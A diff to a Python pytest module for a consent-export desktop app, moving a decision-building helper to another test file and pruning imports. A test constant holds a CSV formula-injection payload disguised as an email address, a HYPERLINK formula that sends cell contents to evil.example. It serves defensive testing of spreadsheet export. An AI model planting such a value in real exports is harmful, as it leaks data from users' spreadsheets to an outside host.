@@ -9,12 +9,12 @@ import io
 from datetime import datetime, timedelta, timezone
 
 import pytest
+from test_store_export import _decision
 
 from desktop_app.cli import main
 from desktop_app.domain.checklist import Channel, Checklist, ChecklistLine, Exclusion, SendStatus
 from desktop_app.domain.email import try_normalise_email
-from desktop_app.domain.model import Consent, LegalBasis, Purpose, Rule, RunMode, System, Trigger
-from desktop_app.domain.planner import Decision, Reason
+from desktop_app.domain.model import RunMode, Trigger
 from desktop_app.store import DecisionStatus, Store
 from desktop_app.store.workbook import write_csv_file
 
@@ -23,25 +23,6 @@ T0 = datetime(2026, 7, 4, 5, 6, 7, tzinfo=UTC)
 # A valid address (one @, a dotted domain, no spaces) that Excel reads as a formula when the CSV is opened.
 HOSTILE = '=hyperlink("https://evil.example/?"&a1,"open")@example.se'
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-
-
-def _decision(email: str) -> Decision:
-    return Decision(
-        email=email,
-        purpose=Purpose.MARKETING,
-        superoffice=Consent(LegalBasis.WITHDRAWN, T0 + timedelta(hours=1)),
-        emarketeer=Consent(LegalBasis.CONSENT, T0),
-        baseline_superoffice=Consent(LegalBasis.CONSENT, T0 - timedelta(days=1)),
-        baseline_emarketeer=Consent(LegalBasis.CONSENT, T0 - timedelta(days=1)),
-        winner=System.SUPEROFFICE,
-        target=System.EMARKETEER,
-        new=LegalBasis.WITHDRAWN,
-        rule=Rule.R13,
-        reason=Reason.ONLY_SUPEROFFICE_CHANGED,
-        conflict=False,
-        person_id=7,
-        person_count=1,
-    )
 
 
 @pytest.fixture
